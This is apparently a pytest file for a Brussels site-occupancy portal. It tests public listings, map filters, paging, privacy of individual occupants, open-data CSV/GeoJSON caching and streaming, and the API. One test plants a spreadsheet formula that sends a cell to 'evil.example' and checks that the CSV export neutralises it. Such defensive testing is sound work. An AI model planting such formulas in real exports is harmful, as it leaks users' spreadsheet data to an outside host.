"""The public list and map, each site's public page, the open data; seed 004's table from the demo data."""
import csv
import io
from datetime import UTC, date, datetime

import time_machine

from occupancies.workflow import OccupantType, PublicationStatus, SiteKind, UnitKind, UseCategory
from portal.extensions import db
from portal.organisations.models import Organisation
from tests.support.sites import make_occupancy, make_site, make_unit

P = PublicationStatus


def published_world(app, world):
    with app.test_request_context():
        owner = db.session.get(Organisation, world.owner)
        occupant = db.session.get(Organisation, world.occupant)
        school = make_site(owner, "École Jette", publication=P.published, commune="jette", latitude=50.88,
                           longitude=4.33, available_from=date(2025, 1, 1), available_until=date(2027, 12, 31))
        flat = make_unit(school, "Flat", kind=UnitKind.flat, bedrooms=2)
        hall = make_unit(school, "Hall", kind=UnitKind.floor)
        make_occupancy(school, [flat], occupant, date(2025, 1, 1), None, use=UseCategory.emergency_housing)
        make_occupancy(school, [hall], None, date(2026, 1, 1), date(2026, 6, 30), use=UseCategory.culture,
                       occupant_type=OccupantType.individual, external="Jean Dupont")
        field = make_site(owner, "Terrain Uccle", publication=P.published, commune="uccle", kind=SiteKind.unbuilt,
                          latitude=50.80, longitude=4.34)
        make_unit(field, "Plot", kind=UnitKind.plot)
        hidden = make_site(owner, "Brouillon caché", publication=P.draft, commune="jette")
        make_unit(hidden, "Room", kind=UnitKind.room)
        db.session.commit()
        return school.id, field.id, hidden.id


def test_the_public_list_shows_published_sites_only(app, client, world):
    school, field, hidden = published_world(app, world)
    page = client.get("/sites").get_data(as_text=True)
    assert "École Jette" in page and "Terrain Uccle" in page and "Brouillon caché" not in page
    assert client.get(f"/sites/{hidden}").status_code == 404


def test_filters_and_the_map_agree(app, client, world):
    published_world(app, world)
    cases = {  # every published site (availability=all), unless the case is about availability
        "availability=all&commune=jette": {"École Jette"},
        "availability=all&kind=unbuilt": {"Terrain Uccle"},
        "availability=all&unit_kind=flat": {"École Jette"},
        "availability=all&use=emergency_housing": {"École Jette"},
        "availability=all&use=culture&as_of=2026-07-01": set(),  # that occupancy has ended by then
        "availability=all&status=ongoing&as_of=2025-06-01": {"École Jette"},
        "availability=all&status=planned&as_of=2025-06-01": {"École Jette"},
        # Available on a day: the window covers it and a unit is free (the school's hall, until 2026).
        "availability=date&available_on=2025-06-01": {"École Jette", "Terrain Uccle"},
        "status=vacant&as_of=2025-06-01": {"École Jette", "Terrain Uccle"},  # an old link: available that day
        "available_from=2026-05-01": {"Terrain Uccle"},  # an old link; both of the school's units are occupied
        "available_from=2028-05-01": {"Terrain Uccle"},  # the school's window has ended
        "availability=all&commune=nowhere&kind=castle": {"École Jette", "Terrain Uccle"},  # unknown: ignored
    }
    for query, expected in cases.items():
        names = {f["properties"]["name"] for f in client.get(f"/sites/map.geojson?{query}").json["features"]}
        assert names == expected, query
        page = client.get(f"/sites?{query}").get_data(as_text=True)
        assert {name for name in ("École Jette", "Terrain Uccle") if f">{name}</a>" in page} == expected, query


def test_paging(app, client, world):
    with app.test_request_context():
        owner = db.session.get(Organisation, world.owner)
        for n in range(23):
            make_site(owner, f"Site {n:02d}", publication=P.published)
        db.session.commit()
    first = client.get("/sites?availability=all").get_data(as_text=True)  # sites without units: none is free
    second = client.get("/sites?availability=all&page=2").get_data(as_text=True)
    assert ">Site 00</a>" in first and ">Site 20</a>" not in first
    assert ">Site 20</a>" in second and "Page 2 of 2" in second
    assert client.get("/sites?page=abc").status_code == 200


def test_the_public_site_page_names_organisations_only(app, client, world):
    school, _, _ = published_world(app, world)
    page = client.get(f"/sites/{school}?as_of=2026-02-01").get_data(as_text=True)
    assert "Asbl A" in page
    assert "Jean Dupont" not in page  # a named individual is never published
    assert "Timeline of the occupancies" in page and "Mix of uses and occupants" in page


def test_csv_and_geojson(app, client, world):
    school, field, _ = published_world(app, world)
    response = client.get("/open-data/sites.csv?as_of=2025-06-01")
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["name"] for r in rows] == ["École Jette", "Terrain Uccle"]
    jette = rows[0]
    assert (jette["units"], jette["dwellings"], jette["units_occupied"], jette["status"]) == ("2", "1", "1", "ongoing")
    assert jette["commune_nl"] == "Jette" and jette["url"] == f"http://portal.test/sites/{school}"
    geo = client.get("/open-data/sites.geojson?kind=unbuilt").json
    assert [f["id"] for f in geo["features"]] == [field]
    assert geo["features"][0]["geometry"]["coordinates"] == [4.34, 50.8]
    assert "Jean Dupont" not in response.get_data(as_text=True)


def test_the_open_data_files_leave_compressed_for_a_client_that_accepts_gzip(app, client, world):
    import gzip

    published_world(app, world)
    for path in ("/open-data/sites.csv", "/open-data/sites.geojson"):
        plain = client.get(path)
        packed = client.get(path, headers={"Accept-Encoding": "gzip, deflate, br"})
        assert "Content-Encoding" not in plain.headers and packed.headers["Content-Encoding"] == "gzip"
        assert gzip.decompress(packed.get_data()) == plain.get_data()
        for response in (plain, packed):   # caches keep the two apart, and give both the same weak tag
            assert {"Accept-Encoding", "Accept-Language", "Cookie"} <= set(response.headers["Vary"].split(", "))
        assert plain.headers["ETag"] == packed.headers["ETag"] and plain.headers["ETag"].startswith("W/")
        again = client.get(path, headers={"Accept-Encoding": "gzip", "If-None-Match": packed.headers["ETag"]})
        assert again.status_code == 304


def test_a_written_open_data_file_is_kept_until_the_register_changes(app, client, world, monkeypatch):
    from occupancies.models import Site
    from portal.audit.operations import record
    from portal.extensions import cache
    from tests.support.web import count_queries

    school, _field, _hidden = published_world(app, world)
    monkeypatch.setitem(app.config, "REVISION_CACHE_SECONDS", 3600)
    with app.app_context():
        cache.clear()
    for headers in ({}, {"Accept-Encoding": "gzip"}):
        first = client.get("/open-data/sites.geojson", headers=headers).get_data()
        with count_queries(app) as statements:
            again = client.get("/open-data/sites.geojson", headers=headers)
        assert again.get_data() == first and not any("sites" in s for s in statements)   # the revision only
        assert again.headers.get("Content-Encoding") == headers.get("Accept-Encoding")
    # A filtered file is written each time: addresses anyone may vary never fill the cache.
    client.get("/open-data/sites.geojson?kind=unbuilt")
    with count_queries(app) as statements:
        client.get("/open-data/sites.geojson?kind=unbuilt").get_data()
    assert any("FROM sites" in s for s in statements)
    # An operation on the register (recorded in the audit log) makes a new file.
    with app.test_request_context():
        site = db.session.get(Site, school)
        site.name = "École Jette rénovée"
        record("site.updated", target=site, organisation=site.owner)
        db.session.commit()
    assert "École Jette rénovée" in client.get("/open-data/sites.geojson").get_data(as_text=True)


def test_the_count_of_the_site_list_is_kept_until_the_register_changes_or_the_day_does(app, client, world,
                                                                                          monkeypatch):
    from occupancies.models import Site
    from portal.audit.operations import record
    from portal.extensions import cache
    from tests.support.web import count_queries

    _school, _field, hidden = published_world(app, world)
    monkeypatch.setitem(app.config, "REVISION_CACHE_SECONDS", 3600)
    with app.app_context():
        cache.clear()

    def counted(path):
        with count_queries(app) as statements:
            page = client.get(path).get_data(as_text=True)
        return page, any("count(*)" in s.lower() for s in statements)

    with time_machine.travel(datetime(2026, 12, 3, 10, tzinfo=UTC), tick=False):
        page, was_counted = counted("/sites?availability=all")
        assert "2 sites" in page and was_counted
        page, was_counted = counted("/sites?availability=all")
        assert "2 sites" in page and not was_counted                 # kept: the register has not changed
        assert counted("/sites?availability=all&q=jette")[1]          # a search is counted each time
        assert counted("/sites?availability=all&q=jette")[1]
        with app.test_request_context(method="POST"):
            site = db.session.get(Site, hidden)
            site.publication = P.published
            record("site.published", target=site, organisation=site.owner)
            db.session.commit()
        page, was_counted = counted("/sites?availability=all")
        assert "3 sites" in page and was_counted                     # an operation: counted again
    with time_machine.travel(datetime(2026, 12, 4, 10, tzinfo=UTC), tick=False):
        assert counted("/sites?availability=all")[1]                 # a new day: counted again


def test_the_open_data_files_stream_and_sum_up_each_site_as_its_page_does(app, client, world, monkeypatch):
    """The CSV and GeoJSON are streamed (the first bytes leave before the last row is read), the same whatever the
    size of the batches they are read in, and their grouped summary (units, dwellings, occupied, first start, last
    end, status, duration) is the one of the site list."""
    from occupancies import queries

    published_world(app, world)
    whole = {}
    for path in ("/open-data/sites.csv", "/open-data/sites.geojson"):
        response = client.get(path, buffered=False)
        assert response.is_streamed
        whole[path] = response.get_data()
        response.close()
    monkeypatch.setattr(queries, "OPEN_DATA_BATCH", 1)                  # one site a batch
    assert client.get("/open-data/sites.csv").get_data() == whole["/open-data/sites.csv"]
    geo = client.get("/open-data/sites.geojson")
    assert geo.get_data() == whole["/open-data/sites.geojson"] and len(geo.json["features"]) == 2
    for as_of in ("2024-06-01", "2025-06-01", "2026-03-31", "2027-01-01"):
        with app.test_request_context():
            filters = queries.SiteFilters.from_args({"as_of": as_of})
            rows, _ = queries.public_sites(filters, 1, per_page=100)
            expected = {r.site.id: (r.units, r.dwellings, r.occupied, r.first_start, r.last_end, r.status,
                                    r.duration) for r in rows}
            streamed = {}
            for r in (row for batch in queries.public_site_batches(filters) for row in batch):
                last_end = None if r.open_ended else r.last_end
                streamed[r.id] = (r.units, r.dwellings, r.occupied, r.first_start, last_end,
                                  queries.summary_status(r.first_start, last_end, filters.as_of),
                                  queries.summary_duration(r.first_start, last_end, filters.as_of))
        assert streamed == expected and len(expected) == 2


def test_a_name_typed_as_a_formula_stays_text_in_the_csv(app, client, world):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    with app.test_request_context():
        site = make_site(db.session.get(Organisation, world.owner), formula, publication=P.published)
        make_unit(site, "Hall")
        db.session.commit()
    rows = list(csv.DictReader(io.StringIO(client.get("/open-data/sites.csv").get_data(as_text=True))))
    assert [r["name"] for r in rows] == ["'" + formula]


def test_the_api_computes_statuses_and_durations_as_of_a_day(app, client, world):
    school, _, _ = published_world(app, world)
    data = client.get(f"/api/v1/sites/{school}?as_of=2026-03-31").json
    occupancies = {o["use"]: o for o in data["site"]["occupancies"]}
    assert occupancies["emergency_housing"] == {
        "id": occupancies["emergency_housing"]["id"], "occupant": "Asbl A", "occupant_type": "association",
        "use": "emergency_housing", "units": occupancies["emergency_housing"]["units"], "start": "2025-01-01",
        "end": None, "duration_months": 15.0, "status": "ongoing"}
    assert occupancies["culture"]["occupant"] == "Individual project"  # no name
    assert (occupancies["culture"]["duration_months"], occupancies["culture"]["status"]) == (6.0, "ongoing")
    later = client.get(f"/api/v1/sites/{school}?as_of=2026-07-01").json
    assert {o["use"]: o["status"] for o in later["site"]["occupancies"]}["culture"] == "ended"
    listing = client.get("/api/v1/sites?per_page=1&page=2").json
    assert (listing["total"], listing["pages"], len(listing["sites"])) == (2, 2, 1)
    assert client.get("/api/v1/sites?as_of=31/12/2025").status_code == 400
    assert client.get("/api/v1/sites?per_page=x").status_code == 400
    assert client.get("/api/v1/sites/999999").status_code == 404


def test_openapi_and_dcat_describe_the_data(client):
    spec = client.get("/api/v1/openapi.json").json
    assert spec["openapi"].startswith("3.") and {"/sites", "/sites/{id}"} <= set(spec["paths"])
    assert "as_of" in {p["name"] for p in spec["paths"]["/sites"]["get"]["parameters"]}
    catalog = client.get("/open-data/catalog.jsonld")
    assert catalog.mimetype == "application/ld+json"
    dataset = catalog.json["dcat:dataset"][0]
    urls = {d["dcat:accessURL"]["@id"] for d in dataset["dcat:distribution"]}
    assert urls == {"http://portal.test/open-data/sites.csv", "http://portal.test/open-data/sites.geojson",
                    "http://portal.test/api/v1/sites"}


def test_seed_004_table_from_the_demo_data(app, client):
    """The list shows ISSUE's columns: site, housing operator, dwellings, duration, period, status."""
    from portal.demo import load

    with app.test_request_context():
        load()
    page = client.get("/sites?view=table&as_of=2023-09-01&availability=all").get_data(as_text=True)
    import re

    rows = {}
    for row in re.findall(r"<tr>\s*<td><a [^>]*>(.*?)</a></td>(.*?)</tr>", page, re.S):
        cells = [re.sub(r"\s+", " ", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row[1], re.S)]
        rows[row[0]] = cells
    for cells in rows.values():
        cells.pop()  # each row ends with the site's availability window
    assert rows["Peterbos"] == ["SISP Comensia", "7", "7 months", "03/2020 – 09/2020", "Occupancy ended"]
    assert rows["Grande Haie"] == ["SISP Log&#39;Iris", "3", "17 months", "03/2020 – 07/2021", "Occupancy ended"]
    assert rows["3 pommiers"] == ["AIS Les Trois Pommiers", "13", "36 months", "01/2021 – 12/2023", "Occupied"]
    assert rows["Ganshoren"] == ["CityDev.brussels", "1", "57 months", "02/2020 – 10/2024", "Occupied"]
    assert rows["Trèfles"] == ["CityDev.brussels", "1", "27 months", "04/2022 – 06/2024", "Occupied"]
    assert rows["Dubrucq"] == ["SISP Le Logement Molenbeekois", "14", "28.5 months", "03/2023 – 07/2025", "Occupied"]


def test_a_page_past_the_last_still_says_how_many_sites_match(app, client, world):
    from occupancies import queries

    published_world(app, world)
    with app.test_request_context():
        filters = queries.SiteFilters.from_args({})
        rows, total = queries.public_sites(filters, 1, per_page=1)
        assert (len(rows), total) == (1, 2)
        assert queries.public_sites(filters, 5, per_page=1) == ([], 2)
    assert "2 sites" in client.get("/sites?page=5&availability=").get_data(as_text=True)
